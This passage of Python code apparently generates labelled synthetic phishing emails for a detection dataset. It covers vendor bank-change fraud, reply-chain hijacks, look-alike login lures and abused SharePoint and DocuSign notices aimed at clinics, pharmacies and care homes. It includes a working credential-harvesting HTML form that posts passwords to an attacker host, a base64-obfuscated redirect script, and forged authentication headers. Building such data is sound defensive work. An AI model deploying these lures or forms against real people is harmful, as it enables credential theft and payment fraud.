        "will be suspended unless the pharmacist calls a phone number; a PDF 'notice' repeats the callback number.", raw)

    # ---- Henry Schein bank-detail change from a typo-squat domain with a PDF letter, to a dental practice
    dt = "2025-09-16 14:22:36 -0600"
    d = when(dt)
    rc = "billing@riversidefamilydental.com"
    mf = "accountsreceivable@henryschien-us.com"
    doc = F.pdf(["HENRY SCHEIN DENTAL - Accounts Receivable", "135 Duryea Road, Melville, NY 11747", "",
                 "Date: September 16, 2025", "Customer: Riverside Family Dental (Acct 40218867)", "",
                 "NOTICE OF CHANGE OF REMITTANCE INFORMATION", "",
                 "Due to our annual bank audit, payments by ACH or wire must now be made to:",
                 "Bank: Pinnacle Commerce Bank", "Account name: HS Dental Supply Receivables", "Routing (ABA): 061092387",
                 "Account: 7730019824", "", "Please update your vendor records immediately. Payments to the previous",
                 "account will be returned. Open invoices: 7714203, 7715581 (total $8,412.60).", "",
                 "Regards, Sandra Whitfield, AR Specialist"], None, "Remittance change notice")
    plain = ("Hello,\n\nPlease see attached our updated remittance information effective immediately. Kindly update "
             "your records and let me know once the open invoices 7714203 and 7715581 ($8,412.60) can be released to "
             "the new account.\n\nThank you,\nSandra Whitfield\nAccounts Receivable Specialist\nHenry Schein Dental\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("postfix", d, "a16", mf, host="mail.henryschien-us.com", ip="23.254.229.71")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a16hs",
                  head_lines=head(addr("Sandra Whitfield", mf), rc, "Updated Remittance Information - Henry Schein", d,
                                  sd["mid"], sig=sd["sig"], post=["X-Mailer: Microsoft Outlook 16.0"]),
                  body=Multi("mixed", f"----=_NextPart_000_{hx('a16b', 4).upper()}", [alt(plain, html, f"----=_NextPart_001_{hx('a16c', 4).upper()}"),
                             attachment("application/pdf", "HS_Remittance_Update.pdf", doc)]))
    add("phishing", "phish", "henry-schein-bank-change-typosquat",
        "Vendor payment fraud: 'Henry Schein Accounts Receivable' writes from the typo-squat henryschien-us.com (own SPF/DKIM "
        "pass) asking a dental practice to pay open invoices to a new bank account given in a PDF letter.", raw)



def quoted_outlook(prev_from: str, prev_sent: str, prev_to: str, prev_subj: str, prev_body: list[str]) -> tuple[str, str]:
    """The quoted previous message, as Outlook writes it (html, plain)."""
    html = ('<div id="appendonsend"></div>\n<hr style="display:inline-block;width:98%" tabindex="-1">\n'
            f'<div id="divRplyFwdMsg" dir="ltr"><font face="Calibri, sans-serif" style="font-size:11pt" color="#000000">'
            f'<b>From:</b> {prev_from}<br>\n<b>Sent:</b> {prev_sent}<br>\n<b>To:</b> {prev_to}<br>\n'
            f'<b>Subject:</b> {prev_subj}</font>\n<div>&nbsp;</div></div>\n<div>'
            + "".join(f"<p>{line}</p>\n" if line else "<p>&nbsp;</p>\n" for line in prev_body) + "</div>")
    plain = (f"________________________________\nFrom: {prev_from.replace('&lt;', '<').replace('&gt;', '>')}\nSent: {prev_sent}\n"
             f"To: {prev_to.replace('&lt;', '<').replace('&gt;', '>')}\nSubject: {prev_subj}\n\n" + "\n".join(prev_body) + "\n")
    return html, plain


def batch_a4() -> None:
    # ---- Reply-chain hijack from a compromised real wholesaler mailbox (M365, all pass): pay to new account
    dt = "2025-10-07 09:14:26 -0400"
    d = when(dt)
    rc = "accounts@lakeshorepharmacy.ca"
    mf = "r.desjardins@kingsdalemedsupply.ca"
    qh, qp = quoted_outlook("Lakeshore Pharmacy Accounts &lt;accounts@lakeshorepharmacy.ca&gt;", "Friday, October 3, 2025 4:52 PM",
                            "Renee Desjardins &lt;r.desjardins@kingsdalemedsupply.ca&gt;", "RE: September statement - Lakeshore #LK2231",
                            ["Hi Renee,", "", "Thanks for the statement. We'll have the September balance paid by EFT next week, "
                             "same as usual.", "", "Marcy", "Lakeshore Pharmacy - Accounts"])
    paras = ["Good morning Marcy,", "",
             "Thank you for the update. Please note that our bank account has changed as we are in the middle of our "
             "year-end audit with RBC - the old account is on hold for incoming EFTs until the audit is complete.", "",
             "I will send you the new banking details and the updated void cheque shortly, please hold the September "
             "payment ($14,286.40) until you receive them and confirm back to me once updated on your side.", "",
             "Kind regards,", "Renee Desjardins", "Credit &amp; Collections | Kingsdale Medical Supply Ltd.",
             "T 905-555-0142 ext. 214"]
    html = outlook_html(paras, qh)
    plain = "\n".join(p.replace("&amp;", "&") for p in paras) + "\n\n" + qp
    sd = sender("m365", d, "a17", mf, region="can")
    raw = deliver(sd, rcpt_kind="m365", region="can", rcpt=rc, dt=dt, seed="a17hij",
                  head_lines=head(addr("Renee Desjardins", mf), addr("Lakeshore Pharmacy Accounts", rc),
                                  "RE: September statement - Lakeshore #LK2231", d, sd["mid"], sig=sd["sig"],
                                  pre=[], post=[f"In-Reply-To: <YT3PR01MB{num('a17q', 1000, 9999)}{hx('a17q', 16).upper()}@YT3PR01MB{num('a17q', 1000, 9999)}.CANPRD01.PROD.OUTLOOK.COM>",
                                                f"References: <YT3PR01MB{num('a17q', 1000, 9999)}{hx('a17q', 16).upper()}@YT3PR01MB{num('a17q', 1000, 9999)}.CANPRD01.PROD.OUTLOOK.COM>"]
                                  + fill(sd["post"], "September statement - Lakeshore #LK2231", False)),
                  body=alt(plain, html, f"_000_{hx('a17b', 24).upper()}_"))
    add("phishing", "phish", "wholesaler-reply-hijack-bank-change",
        "Reply-chain hijack: a real medical wholesaler's compromised Microsoft 365 mailbox (all checks pass) answers a "
        "pharmacy's own thread about the September statement and asks it to hold the payment for 'new banking details'.", raw)

    # ---- Covetrus statement with an HTML attachment that is a pre-filled Microsoft login form
    dt = "2024-12-04 12:37:50 +0000"
    d = when(dt)
    rc = "reception@northgatevets.co.uk"
    mf = "statements@covetrus-uk-billing.com"
    form = ('<!DOCTYPE html><html><head><meta charset="utf-8"><title>Sign in to your account</title>'
            '<style>body{font-family:Segoe UI,Arial;background:#f2f2f2}.b{width:440px;margin:80px auto;background:#fff;'
            'padding:44px}</style></head><body><div class="b"><img src="https://aadcdn.msftauth.net/shared/1.0/content/'
            'images/microsoft_logo_ee5c8d9fb6248c938fd0dc19370e90bd.svg" width="108"><h2>Sign in</h2>'
            '<p>Because you\'re accessing sensitive info, you need to verify your password.</p>'
            '<form method="POST" action="https://cvtstatement.shop/next.php">'
            f'<input type="email" name="login" value="{rc}" readonly><br><input type="password" name="passwd" '
            'placeholder="Password" required><br><button type="submit">Sign in</button></form>'
            '<script>var _0x3f=["\\x6c\\x6f\\x63\\x61\\x74\\x69\\x6f\\x6e"];document.title="Statement";</script>'
            '</div></body></html>\n').encode()
    plain = ("Dear Customer,\n\nPlease find attached your December account statement from Covetrus. You will be asked to "
             "sign in with your email to view the secure document.\n\nKind regards,\nCovetrus Credit Control\n")
    html = outlook_html(plain.strip().split("\n"))
    sd = sender("postfix", d, "a18", mf, host="s1.covetrus-uk-billing.com", ip="80.85.156.201")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a18cov",
                  head_lines=head(addr("Covetrus Credit Control", mf), rc, "Account Statement - December 2024 - Northgate Veterinary Centre",
                                  d, sd["mid"], sig=sd["sig"]),
                  body=Multi("mixed", f"=_{hx('a18m', 32)}", [alt(plain, html, f"=_{hx('a18a', 32)}"),
                             attachment("text/html", "Covetrus_Statement_Dec2024.html", form)]))
    add("phishing", "phish", "covetrus-statement-html-login",
        "Fake Covetrus account statement to a UK vet practice from a look-alike billing domain; the attached .html file "
        "is a Microsoft sign-in form pre-filled with the recipient's address that posts the password to an attacker site.", raw)

    # ---- Availity ERA lure, look-alike domain
    dt = "2025-01-28 10:06:14 -0500"
    d = when(dt)
    rc = "billing@lakeviewortho.com"
    mf = "notifications@availity-portal.net"
    link = "https://availity-portal.net/availity/web/public.elegant.login?goto=remittance&eid=" + hx("a19e", 16)
    paras = ["Hello,", "A new <b>Electronic Remittance Advice (835)</b> with <b>3 denied claims</b> is available for your "
             "organization <b>LAKEVIEW ORTHOPAEDIC ASSOCIATES</b>. Denials must be appealed within 5 business days "
             "to keep the original filing date.", "Log in to Availity Essentials to review the remittance."]
    html = simple_notice('<tr><td style="padding:16px 28px;border-bottom:3px solid #f26522"><span style="font-size:24px;'
                         'color:#003a5d;font-weight:bold">availity</span></td></tr>', paras, link, "View Remittance", "#f26522",
                         "Availity, LLC &middot; 5555 Gate Parkway, Suite 110, Jacksonville, FL 32256", "Availity")
    plain = ("Availity\n\nA new Electronic Remittance Advice (835) with 3 denied claims is available for your organization "
             f"LAKEVIEW ORTHOPAEDIC ASSOCIATES.\n\nView Remittance: {link}\n")
    sd = sender("postfix", d, "a19", mf, host="mail.availity-portal.net", ip="141.98.11.178")
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="a19av",
                  head_lines=head(addr("Availity Essentials", mf), rc, "New ERA available: 3 claims denied", d, sd["mid"],
                                  sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a19b', 30)}"))
    add("phishing", "phish", "availity-era-denied-lookalike",
        "Availity 'new 835 remittance with denied claims' notice to an orthopaedic practice's billing office from the "
        "look-alike availity-portal.net, linking to a copy of the Availity login.", raw)

    # ---- Change Healthcare re-enrollment lure after the 2024 outage, from a hacked university mailbox
    dt = "2024-04-03 13:27:41 -0500"
    d = when(dt)
    rc = "rcm@prairiewindclinic.com"
    mf = "j.holloway@stu.westmontcc.edu"
    link = "https://changehealthcare-reconnect.com/provider/enroll?tin=" + str(num("a20t", 100000000, 999999999))
    paras = ["Dear Provider,", "As part of restoring services following the cybersecurity incident, Change Healthcare is "
             "re-establishing connectivity for claims, eligibility and ERA. Every submitter must <b>re-enroll and "
             "re-validate</b> its organization credentials before <b>April 8, 2024</b>.",
             "Organizations that do not re-enroll will remain disconnected and claims will not be processed."]
    html = simple_notice('<tr><td style="padding:16px 28px;background:#002677;color:#fff;font-size:20px">Change Healthcare '
                         '<span style="font-size:12px">an Optum company</span></td></tr>', paras, link,
                         "Re-enroll your organization", "#ff612b",
                         "Change Healthcare &middot; 424 Church Street, Suite 1400, Nashville, TN 37219", "Change Healthcare")
    plain = ("Change Healthcare\n\nDear Provider,\n\nAs part of restoring services following the cybersecurity incident, "
             "every submitter must re-enroll and re-validate its organization credentials before April 8, 2024.\n\n"
             f"Re-enroll: {link}\n")
    sd = sender("m365", d, "a20", mf, dom="stu.westmontcc.edu")
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a20chc", auth_over={"pol": "p=NONE sp=NONE dis=NONE"},
                  head_lines=head(addr("Change Healthcare Connectivity", mf), "undisclosed-recipients:;",
                                  "Action needed: Re-enroll for claims connectivity restoration", d, sd["mid"], sig=sd["sig"],
                                  post=fill(sd["post"], "Action needed: Re-enroll for claims connectivity restoration", False)),
                  body=alt(plain, html, f"_000_{hx('a20b', 24).upper()}_"))
    add("phishing", "phish", "change-healthcare-reenroll-edu",
        "Post-outage Change Healthcare 're-enroll for claims connectivity' lure sent Bcc from a compromised community-college "
        "student mailbox (passes authentication) to a clinic's revenue-cycle team, linking to a look-alike enrollment site.", raw)

    # ---- HIPAA training due: compromised compliance-consultant mailbox shares a Canva design that links out
    dt = "2025-02-18 08:55:19 -0800"
    d = when(dt)
    rc = "frontdesk@sunvalleypeds.com"
    mf = "lisa@pacificcompliancepartners.com"
    link = "https://www.canva.com/design/DAG" + alnum("a21c", 8) + "/" + alnum("a21d", 22) + "/view?utm_content=DAG&utm_campaign=designshare&utm_medium=link&utm_source=editor"
    paras = ["Hi team,", "", "Your <b>2025 Annual HIPAA Privacy &amp; Security Training</b> is now due. All workforce "
             "members must complete the module and sign the attestation by <b>February 28</b> per your practice's "
             "compliance plan.", "", f'Training packet and attestation: <a href="{link}">2025 HIPAA Training - Sun Valley Pediatrics</a>',
             "", "Thank you,", "Lisa Moreno, CHC", "Pacific Compliance Partners"]
    html = outlook_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "").replace("&amp;", "&") for p in paras[:4]) + \
        f"\n\nTraining packet and attestation: {link}\n\nThank you,\nLisa Moreno, CHC\nPacific Compliance Partners\n"
    sd = sender("m365", d, "a21", mf)
    raw = deliver(sd, rcpt_kind="gws", rcpt=rc, dt=dt, seed="a21hip",
                  head_lines=head(addr("Lisa Moreno", mf), rc, "2025 Annual HIPAA Training - due Feb 28", d, sd["mid"],
                                  sig=sd["sig"], post=fill(sd["post"], "2025 Annual HIPAA Training - due Feb 28", False)),
                  body=alt(plain, html, f"_000_{hx('a21b', 24).upper()}_"))
    add("phishing", "phish", "hipaa-training-canva-compromised",
        "HIPAA annual-training reminder from a compliance consultant's compromised Microsoft 365 mailbox (passes all checks), "
        "pointing to a Canva design whose 'start training' button leads to a credential-harvesting page.", raw)



def qr_pdf(lines: list[str], url: str, title: str) -> bytes:
    """A one-page PDF: lines of text and a QR code image of ``url`` under them (as MFA/payroll QR lures ship)."""
    import io
    import zlib

    from PIL import Image

    img = Image.open(io.BytesIO(F.qr_png(url))).convert("L")
    w, h = img.size
    data = zlib.compress(img.tobytes(), 9)
    content = ["BT", "/F1 12 Tf", "16 TL", "60 780 Td"]
    for line in lines:
        content.append("(" + line.replace("\\", "\\\\").replace("(", "\\(").replace(")", "\\)") + ") Tj T*")
    content += ["ET", "q 190 0 0 190 200 300 cm /Im1 Do Q"]
    objects = F.image_page("\n".join(content).encode("latin-1"), data, w, h, "FlateDecode")
    objects.append(f"<< /Title ({title}) /Producer (Microsoft: Print To PDF) /CreationDate (D:20250303091500+00'00') >>".encode())
    return F.pdf_file(objects, len(objects))


def batch_a5() -> None:
    # ---- DSPT / data security training via Microsoft Forms asking for the NHSmail password
    dt = "2025-03-04 15:10:02 +0000"
    d = when(dt)
    rc = "manager@harbourviewcare.co.uk"
    mf = "training@dspt-careprovider.co.uk"
    link = "https://forms.office.com/Pages/ResponsePage.aspx?id=" + alnum("a22f", 60) + "&r=" + alnum("a22r", 8)
    paras = ["Dear Registered Manager,", "",
             "The <b>Data Security and Protection Toolkit (DSPT) 2024-25</b> submission deadline is <b>30 June</b>. "
             "To meet Standard 3 (Training), every staff member with access to personal data must complete the "
             "annual Data Security Awareness assessment.", "",
             f'Please complete the short staff assessment here: <a href="{link}">DSPT Staff Assessment 2025</a>', "",
             "You will be asked to confirm your NHSmail / organisation login so that your completion is recorded "
             "against your ODS code.", "", "Kind regards,", "Better Security, Better Care - Support Team"]
    html = outlook_html(paras)
    plain = "\n".join(p.replace("<b>", "").replace("</b>", "") for p in paras).replace(
        '<a href="' + link + '">DSPT Staff Assessment 2025</a>', link) + "\n"
    sd = sender("postfix", d, "a22", mf, host="mx1.dspt-careprovider.co.uk", ip="185.196.9.114")
    raw = deliver(sd, rcpt_kind="m365", region="gbr", rcpt=rc, dt=dt, seed="a22dspt",
                  head_lines=head(addr("DSPT Support", mf), rc, "DSPT 2024-25: staff data security assessment due", d,
                                  sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a22b', 30)}"))
    add("phishing", "phish", "dspt-training-msforms",
        "Care-home lure about the NHS Data Security and Protection Toolkit training deadline, from a look-alike domain, "
        "sending staff to a Microsoft Forms 'assessment' that asks for their NHSmail/organisation password.", raw)

    # ---- eFax notice with a link to a OneDrive/SharePoint file in a compromised tenant
    dt = "2025-07-22 07:49:37 -0400"
    d = when(dt)
    rc = "intake@mercyvalleyhealth.org"
    mf = "efax@corwinlawgroup.com"
    link = ("https://corwinlawgroup-my.sharepoint.com/:b:/g/personal/reception_corwinlawgroup_com/"
            + alnum("a23s", 46) + "?e=" + alnum("a23e", 6))
    html = page(
        '<tr><td style="padding:14px 24px;border-bottom:2px solid #c00"><span style="font-size:24px;font-weight:bold;color:#c00">'
        'eFax</span><span style="font-size:12px;color:#555"> &nbsp;by Consensus</span></td></tr>\n'
        '<tr><td style="padding:20px 24px;line-height:22px">You have received a <b>5 page</b> fax at 2025-07-22 07:48:12 EST.'
        '<br><br><table cellpadding="4" style="font-size:13px"><tr><td>Caller-ID:</td><td>+1 614 555 0193</td></tr>'
        '<tr><td>Pages:</td><td>5</td></tr><tr><td>Reference:</td><td>Patient medical records request</td></tr></table>'
        '</td></tr>\n' f'<tr><td style="padding:0 24px 22px 24px">{button(link, "View Fax Document", "#c00")}</td></tr>\n'
        '<tr><td style="padding:12px 24px;font-size:11px;color:#888">Thank you for using eFax. Please do not reply to this '
        'automated message.</td></tr>', "eFax")
    plain = ("eFax\n\nYou have received a 5 page fax at 2025-07-22 07:48:12 EST.\nCaller-ID: +1 614 555 0193\n"
             f"Reference: Patient medical records request\n\nView Fax Document: {link}\n")
    sd = sender("m365", d, "a23", mf)
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="a23efax",
                  head_lines=head(addr("eFax Delivery", mf), rc, "eFax message from \"+1 614 555 0193\" - 5 page(s)", d,
                                  sd["mid"], sig=sd["sig"], post=fill(sd["post"], "eFax message", False)),
                  body=alt(plain, html, f"_000_{hx('a23b', 24).upper()}_"))
    add("phishing", "phish", "efax-records-request-sharepoint",
        "Fake eFax 'patient medical records request' notice sent from a law firm's compromised Microsoft 365 mailbox "
        "(passes all checks); the link opens a PDF on that firm's own SharePoint that leads on to a credential page.", raw)

    # ---- RingCentral voicemail, link to workers.dev
    dt = "2025-12-02 16:33:48 -0500"
    d = when(dt)
    rc = "dr.feldman@brooksidecardiology.com"
    mf = "service@voicemail-rc.net"
    link = f"https://rc-voicemail-player.sweet-fog-8a1c.workers.dev/?vm={hx('a24v', 10)}#{base64.b64encode(rc.encode()).decode()}"
    html = page(
        '<tr><td style="padding:16px 24px;border-bottom:1px solid #ddd"><span style="color:#f80;font-size:22px;font-weight:bold">'
        'Ring</span><span style="color:#0684bd;font-size:22px;font-weight:bold">Central</span></td></tr>\n'
        '<tr><td style="padding:22px 24px;line-height:22px"><b>New Voice Message</b><br>From: (312) 555-0147 (WIRELESS CALLER)'
        '<br>To: Ext. 204 Dr. Feldman<br>Received: Tuesday, December 2, 2025 4:31 PM<br>Duration: 00:00:58</td></tr>\n'
        f'<tr><td style="padding:0 24px 22px 24px">{button(link, "&#9654; Listen to Voicemail", "#0684bd")}</td></tr>\n'
        '<tr><td style="padding:12px 24px;font-size:11px;color:#888">&copy; 1999-2025 RingCentral, Inc. All rights reserved.'
        '</td></tr>', "RingCentral")
    plain = ("RingCentral\n\nNew Voice Message\nFrom: (312) 555-0147 (WIRELESS CALLER)\nTo: Ext. 204 Dr. Feldman\n"
             f"Duration: 00:00:58\n\nListen to Voicemail: {link}\n")
    sd = sender("postfix", d, "a24", mf, host="mail.voicemail-rc.net", ip="194.26.135.88")
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="a24rc",
                  head_lines=head(addr("RingCentral", mf), rc, "New Voice Message from (312) 555-0147 - 58 sec", d,
                                  sd["mid"], sig=sd["sig"]),
                  body=alt(plain, html, f"=_{hx('a24b', 30)}"))
    add("phishing", "phish", "ringcentral-voicemail-workers",
        "RingCentral 'new voice message' notice to a cardiologist from a look-alike voicemail domain; 'Listen' opens a "
        "workers.dev page that asks for Microsoft 365 credentials to play the message.", raw)

    # ---- Voicemail with an .htm attachment that redirects to a credential page, spoofed internal sender (fails DMARC)
    dt = "2024-08-29 10:02:11 -0400"
    d = when(dt)
    rc = "mkowalski@lakeshorepharmacy.ca"
    mf = "voicemail@lakeshorepharmacy.ca"
    blob = base64.b64encode(b"https://lkshr-vm.ru.com/vm/?e=" + rc.encode()).decode()
    htm = ('<html><head><meta charset="utf-8"><title>Audio Message</title></head><body>'
           '<p style="font-family:Arial">Loading audio message, please wait...</p>'
           f'<script>var a="{blob}";setTimeout(function(){{window.location.replace(atob(a));}},800);</script>'
           '</body></html>\n').encode()
    plain = ("You have a new voice message.\n\nCaller: +1 416-555-0129\nLength: 0:47\n\nOpen the attached audio "
             "message to listen.\n\nLakeshore Pharmacy Phone System\n")
    html = outlook_html(plain.strip().split("\n"))
    ip = "103.149.28.201"
    raw = mail(rcpt_kind="m365", region="can", rcpt=rc, dt=dt, helo="lakeshorepharmacy.ca", host="lakeshorepharmacy.ca",
               ip=ip, seed="a25vm",
               auth={"spf": "fail", "dkim": "none", "dmarc": "fail", "action": "oreject", "mf": "lakeshorepharmacy.ca",
                     "from": "lakeshorepharmacy.ca", "mfaddr": mf, "compauth": "fail reason=000", "scl": 5},
               hops=[], head=head(addr("Voicemail Service", mf), rc, "Voice Message (0:47) from +1 416-555-0129 for mkowalski",
                                 d, f"<{hx('a25m', 20)}$@lakeshorepharmacy.ca>".replace("$", ""), post=["X-Priority: 1"]),
               body=Multi("mixed", f"----=_Part_{hx('a25p', 12)}", [alt(plain, html, f"----=_Alt_{hx('a25a', 12)}"),
                          attachment("text/html", "VM_Play_0047.htm", htm)]))
    add("phishing", "phish", "voicemail-htm-redirect-spoof",
        "Voicemail notice spoofing the pharmacy's own domain from an unrelated IP (SPF and DMARC fail) with an .htm "
        "attachment whose script redirects to a credential-harvesting page.", raw)

    # ---- Microsoft 365 password expiry, shortener, free-mail-less: Mailgun from look-alike
    dt = "2025-04-29 06:12:45 -0700"
    d = when(dt)
    rc = "kwilliams@pinecrestseniorliving.com"
    mf = "no-reply@ms365-accountprotection.com"
    link = "https://tinyurl.com/m365pwd-" + alnum("a26t", 6).lower()
    paras = ["Microsoft 365", "", f"The password for <b>{rc}</b> expires today.", "",
             "You can continue to use your current password by selecting the option below. If no action is taken, "
             "you will be signed out of Outlook and Teams on all devices.", "",
             f'<a href="{link}" style="background:#0067b8;color:#fff;padding:8px 18px;text-decoration:none">Keep current password</a>',
             "", "Microsoft respects your privacy. To learn more, please read our Privacy Statement.",
             "Microsoft Corporation, One Microsoft Way, Redmond, WA 98052"]
    html = page("".join(f'<tr><td style="padding:4px 28px;font-family:Segoe UI,Arial">{p}</td></tr>' for p in paras), "Microsoft")
    plain = f"Microsoft 365\n\nThe password for {rc} expires today.\n\nKeep current password: {link}\n"
    sd = sender("postfix", d, "a26", mf, host="m228-41.mailgun.net", ip="159.135.228.41")
    sd["sig"] = [dkim("ms365-accountprotection.com", "mx", d, "Content-Transfer-Encoding:Content-Type:Mime-Version:Subject:\n\tFrom:To:Message-Id:Date:Sender")]
    raw = deliver(sd, rcpt_kind="m365", rcpt=rc, dt=dt, seed="a26pw",
                  auth_over={"mf": "mg.ms365-accountprotection.com", "mfaddr": "bounce+9f2a1e.ac1b-" + rc.replace("@", "=") + "@mg.ms365-accountprotection.com"},
                  head_lines=head(addr("Microsoft 365 Admin", mf), rc, f"Password expiry notice for {rc}", d,
                                  f"<{d.strftime('%Y%m%d%H%M%S')}.{hx('a26m', 16)}@mg.ms365-accountprotection.com>", sig=sd["sig"],
                                  post=["Sender: no-reply@mg.ms365-accountprotection.com", f"X-Mailgun-Sid: {b64('a26sid', 40)}",
                                        "X-Mailgun-Tag: notify"]),
                  body=alt(plain, html, hx("a26b", 32)))
    add("phishing", "phish", "m365-password-expiry-tinyurl",
        "Microsoft 365 'password expires today, keep current password' notice to a senior-living employee, sent via Mailgun "
        "from a look-alike domain, with a TinyURL link to a Microsoft login copy.", raw)



def spo_share(sharer: str, sharer_mail: str, rc: str, fname: str, url: str, note: str, d: datetime, seed: str,
              tenant_dom: str, kind_icon: str = "PDF") -> tuple[list[str], Multi, dict]:
    """A genuine SharePoint Online / OneDrive sharing notification as Microsoft sends it."""
    html = ('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>\n'
            '<body><table role="presentation" width="100%" style="font-family:Segoe UI,Helvetica,Arial;max-width:640px">\n'
            f'<tr><td style="padding:24px 20px 4px 20px;font-size:21px;color:#242424">{sharer} shared a file with you</td></tr>\n'
            + (f'<tr><td style="padding:12px 20px;font-size:14px;color:#242424;border-left:3px solid #0078d4">{note}</td></tr>\n' if note else "")
            + f'<tr><td style="padding:18px 20px"><table style="border:1px solid #e1e1e1;width:100%"><tr>'
            f'<td style="padding:14px;font-size:12px;color:#c00">{kind_icon}</td><td style="padding:14px;font-size:15px">'
            f'<a href="{url}" style="color:#242424;text-decoration:none">{fname}</a></td></tr></table></td></tr>\n'
            f'<tr><td style="padding:6px 20px 20px 20px"><a href="{url}" style="background:#0078d4;color:#fff;'
            'padding:8px 20px;text-decoration:none;font-size:14px;border-radius:2px">Open</a></td></tr>\n'
            '<tr><td style="padding:10px 20px;font-size:11px;color:#616161">This link will work for anyone in the organization '
            f'and people with existing access.<br>Microsoft respects your privacy. <a href="https://go.microsoft.com/fwlink/?LinkId=521839">'
            'Privacy Statement</a><br>Microsoft Corporation, One Microsoft Way, Redmond, WA 98052</td></tr>\n</table>'
            f'<img src="https://southcentralus1-mediap.svc.ms/transform/thumbnail?provider=spo&inputFormat=pdf&cs={alnum(seed + "cs", 40)}&docid={alnum(seed + "doc", 60)}" width="1" height="1" alt="">'
            '</body></html>\n')
    plain = f"{sharer} shared a file with you\n\n{note}\n\n{fname}\n{url}\n\nMicrosoft Corporation, One Microsoft Way, Redmond, WA 98052\n"
    mid = f"<{hx(seed + 'odsp', 8)}-{hx(seed + 'o2', 4)}-{hx(seed + 'o3', 4)}-{hx(seed + 'o4', 4)}-{hx(seed + 'o5', 12)}@odspnotify>"
    post = [f"X-MS-Exchange-Organization-SharePointSender: {tenant_dom}", "X-Auto-Response-Suppress: All",
            "X-MS-Exchange-Organization-AuthMechanism: 14", "X-MS-SharePoint-ItemType: File"]
    auth = {"spf": "pass", "dkim": "pass", "dmarc": "pass", "mf": "sharepointonline.com", "from": "sharepointonline.com",
            "d": "sharepointonline.com", "s": "selector1", "mfaddr": "no-reply@sharepointonline.com",
            "pol": "p=REJECT sp=REJECT dis=NONE"}
    return post, alt(plain, html, f"_000_{hx(seed + 'spb', 24)}_"), {"auth": auth, "mid": mid, "html": html}


def batch_a6() -> None:
    # ---- Genuine SharePoint share from a compromised partner clinic's tenant (everything passes)
    dt = "2025-05-20 11:46:03 -0500"
    d = when(dt)
    rc = "referrals@mercyvalleyhealth.org"
    url = ("https://valleyviewphysicaltherapy-my.sharepoint.com/:o:/g/personal/amy_hollis_valleyviewpt_com/"
           + alnum("a27u", 44) + "?e=" + alnum("a27e", 6))
    post, body, meta = spo_share("Amy Hollis", "amy.hollis@valleyviewpt.com", rc, "Patient Transfer Forms - Secure.one", url,
                                 "Hi, please review the attached patient transfer documents and sign where needed. Thank you.",
                                 d, "a27", "valleyviewphysicaltherapy.sharepoint.com", "ONE")
    ip = "40.107.236.73"
    host = "NAM11-CO1-obe.outbound.protection.outlook.com"
    raw = mail(rcpt_kind="m365", rcpt=rc, dt=dt, helo=host, host=host, ip=ip, seed="a27spo", auth=meta["auth"],
               hops=[hop(f"SN4PR0501MB{num('a27s', 1000, 9999)}.namprd05.prod.outlook.com\n (2603:10b6:803:{hx('a27h', 3)}::1{num('a27x', 1, 9)})",
                         f"SN4PR0501MB{num('a27s', 1000, 9999)}.namprd05.prod.outlook.com", d.astimezone(timezone.utc), 1,
                         "Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384)", "15.20.8746.30")],
               head=head(addr("Amy Hollis (via SharePoint)", "no-reply@sharepointonline.com"), rc,
                         "Amy Hollis shared \"Patient Transfer Forms - Secure\" with you", d, meta["mid"],
                         sig=[dkim("sharepointonline.com", "selector1", d, "From:Date:Subject:Message-ID:Content-Type:MIME-Version")],
                         reply_to=addr("Amy Hollis", "amy.hollis@valleyviewpt.com"), post=post),
               body=body)
    add("phishing", "phish", "sharepoint-onenote-compromised-partner",
        "Genuine SharePoint Online sharing notification (sharepointonline.com, all checks pass) from a physical-therapy "
        "partner's compromised account, sharing a OneNote 'Patient Transfer Forms' page whose link leads to a phishing "
        "login; only the lure text and the unexpected share give it away.", raw)

    # ---- Genuine DocuSign envelope abused: 'pay adjustment agreement'
    dt = "2024-12-11 10:22:58 -0600"
    d = when(dt)
    rc = "lnguyen@stlukesregionalmc.org"
    env = f"{hx('a28e', 8)}-{hx('a28e2', 4)}-{hx('a28e3', 4)}-{hx('a28e4', 4)}-{hx('a28e5', 12)}".upper()
    url = (f"https://na4.docusign.net/Signing/EmailStart.aspx?a={hx('a28a', 8)}-{hx('a28b', 4)}-{hx('a28c', 4)}-"
           f"{hx('a28d', 4)}-{hx('a28f', 12)}&etti=24&acct={hx('a28g', 8)}-{hx('a28h', 4)}-{hx('a28i', 4)}-{hx('a28j', 4)}-"
           f"{hx('a28k', 12)}&er={hx('a28l', 8)}-{hx('a28m', 4)}-{hx('a28n', 4)}-{hx('a28o', 4)}-{hx('a28p', 12)}")
    html = page(
        '<tr><td style="padding:20px 24px;background:#1e1e1e"><span style="color:#fff;font-size:20px;font-weight:bold">Docusign</span></td></tr>\n'
        '<tr><td style="padding:28px 24px;background:#4c00ff;color:#fff;text-align:center;font-size:18px">'
        'HR Payroll Department sent you a document to review and sign.<br><br>'
        f'<a href="{url}" style="background:#ffffff;color:#4c00ff;padding:10px 24px;text-decoration:none;font-size:14px;'
        'font-weight:bold;border-radius:2px">REVIEW DOCUMENT</a></td></tr>\n'
        '<tr><td style="padding:22px 24px;line-height:21px"><b>HR Payroll Department</b><br>hr.payroll.dept@outlook.com<br><br>'
        'Please review and sign the 2025 Salary &amp; Pay Adjustment Agreement. Completion is required for the January '
        'payroll cycle.<br><br>Thank you,<br>HR Payroll Department</td></tr>\n'
        '<tr><td style="padding:16px 24px;font-size:11px;color:#666;background:#f4f4f4"><b>Do Not Share This Email</b><br>'
        'This email contains a secure link to Docusign. Please do not share this email, link, or access code with others.'
        f'<br><br>If you have trouble signing, visit "How to Sign a Document" on our Docusign Support Center.<br><br>'
        'This message was sent to you by HR Payroll Department who is using the Docusign Electronic Signature Service.</td></tr>',
        "Docusign")
